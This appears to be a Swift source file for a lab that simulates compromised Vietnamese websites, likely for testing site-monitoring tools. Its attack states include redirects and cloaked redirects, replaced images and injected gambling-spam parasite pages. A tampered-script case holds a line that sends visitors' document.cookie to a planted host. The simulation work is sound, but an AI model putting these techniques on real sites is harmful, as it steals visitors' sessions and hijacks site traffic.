/// What has become of one site.
package struct SiteCondition: Hashable, Sendable {
    package var attack: Attack?
    package var edits: [HarmlessEdit]

    package init(attack: Attack? = nil, edits: [HarmlessEdit] = []) {
        self.attack = attack
        self.edits = edits
    }

    package static let healthy = SiteCondition()
}

extension LabSite {
    /// What the site answers to a visitor, in its condition: a pure function of the three.
    package func answer(_ request: LabRequest, in condition: SiteCondition) -> LabAnswer {
        let attack = condition.attack.flatMap { $0.isShown(to: request) ? $0 : nil }
        switch attack {
        case .serverError: return failure(request)
        case .redirect, .cloakedRedirect:
            return .redirect(to: request.address.url(Planted.hosts[0]))
        case .slow:
            var answer = content(request, condition.edits, nil)
            answer.delaySeconds = Attack.slowSeconds
            return answer
        default: return content(request, condition.edits, attack)
        }
    }

    private func failure(_ request: LabRequest) -> LabAnswer {
        var page = SitePage(self, request)
        page.takenOver = """
            <main style="max-width:40rem;margin:15vh auto;padding:1rem;font-family:sans-serif"><h1>503</h1>
            <p>Máy chủ tạm thời không phục vụ. Xin quay lại sau.</p></main>
            """
        return LabAnswer(status: 503, body: page.html)
    }

    private func content(_ request: LabRequest, _ edits: [HarmlessEdit], _ attack: Attack?) -> LabAnswer {
        switch request.path {
        case "/": return frontPage(request, edits, attack)
        case "/robots.txt":
            let text = "User-agent: *\nAllow: /\nSitemap: \(request.address.url(host, "/sitemap.xml"))\n"
            return LabAnswer(
                contentType: "text/plain; charset=utf-8",
                body: "# Phòng thử nghiệm — dữ liệu giả lập\n" + text
            )
        case "/sitemap.xml": return sitemap(request, attack)
        case "/css/site.css": return LabAnswer(contentType: "text/css; charset=utf-8", body: styleSheets)
        case "/js/site.js": return script(attack)
        case "/favicon.svg": return LabAnswer(contentType: "image/svg+xml", body: SitePage.emblem(look.main))
        default:
            return picture(request, attack) ?? article(request) ?? section(request) ?? parasite(
                request,
                attack
            ) ?? missing(request)
        }
    }

    private func frontPage(_ request: LabRequest, _ edits: [HarmlessEdit], _ attack: Attack?) -> LabAnswer {
        var page = SitePage(self, request)
        for edit in edits { edit.change(&page) }
        attack?.change(&page)
        return LabAnswer(body: page.html)
    }

    /// Both names of the classes, so that renaming them changes no look.
    private var styleSheets: String { look.styleSheet(look.prefix) + look.styleSheet("css-9f8e7d") }

    private func script(_ attack: Attack?) -> LabAnswer {
        let honest = "document.documentElement.dataset.ready = \"1\";\n"
        let tampered =
            "new Image().src = \"//\(Planted.hosts[1])/?\" + encodeURIComponent(document.cookie);\n"
        let body = attack == .scriptTampered ? honest + tampered : honest
        return LabAnswer(contentType: "text/javascript; charset=utf-8", body: body)
    }

    private func sitemap(_ request: LabRequest, _ attack: Attack?) -> LabAnswer {
        var paths = ["/"] + SiteSection.allCases.map(\.path) + articles.indices.map { "/tin-tuc/\($0)" }
        if attack == .parasitePages { paths += Planted.parasites }
        let entries = paths.map { "<url><loc>\(request.address.url(host, $0).escaped)</loc></url>" }
        return LabAnswer(
            contentType: "application/xml; charset=utf-8",
            body: """
                <?xml version="1.0" encoding="UTF-8"?>
                <!-- Phòng thử nghiệm — dữ liệu giả lập -->
                <urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">
                \(entries.joined(separator: "\n"))
                </urlset>
                """
        )
    }
}

extension LabSite {
    private func picture(_ request: LabRequest, _ attack: Attack?) -> LabAnswer? {
        let parts = request.path.split(separator: "/")
        guard parts.count == 2, parts[0] == "anh", parts[1].hasSuffix(".svg"),
            let number = Int(parts[1].dropLast(4)),
            (0...articles.count).contains(number)
        else { return nil }
        let body = look.picture(number, of: host, isReplaced: attack == .imageReplaced && number < 2)
        return LabAnswer(contentType: "image/svg+xml", body: body)
    }

    private func article(_ request: LabRequest) -> LabAnswer? {
        let parts = request.path.split(separator: "/")
        guard parts.count == 2, parts[0] == "tin-tuc", let number = Int(parts[1]),
            articles.indices.contains(number)
        else { return nil }
        let article = articles[number]
        return page(
            request,
            title: article.title,
            paragraphs: [article.date, article.lead] + article.paragraphs
        )
    }

    private func section(_ request: LabRequest) -> LabAnswer? {
        SiteSection(rawValue: String(request.path.dropFirst())).map { section in
            page(request, title: section.title, paragraphs: section.paragraphs(of: self))
        }
    }

    private func parasite(_ request: LabRequest, _ attack: Attack?) -> LabAnswer? {
        guard attack == .parasitePages, Planted.parasites.contains(request.path) else { return nil }
        return page(
            request,
            title: "Nhà cái uy tín, tài xỉu online, nổ hũ đổi thưởng",
            paragraphs: ["Trang ký sinh giả lập: nhà cái uy tín, soi kèo, tài xỉu online."]
        )
    }

    private func missing(_ request: LabRequest) -> LabAnswer {
        var answer = page(
            request,
            title: "Không tìm thấy trang",
            paragraphs: ["Trang này không có hoặc đã được gỡ."]
        )
        answer.status = 404
        return answer
    }

    private func page(_ request: LabRequest, title: String, paragraphs: [String]) -> LabAnswer {
        var page = SitePage(self, request)
        page.title = "\(title) – \(name)"
        let text = paragraphs.map { "<p>\($0.escaped)</p>" }.joined()
        page.content =
            "<main><article class=\"\(page.prefix)-item\"><div><h2>\(title.escaped)</h2>\(text)</div></article></main>"
        return LabAnswer(body: page.html)
    }
}
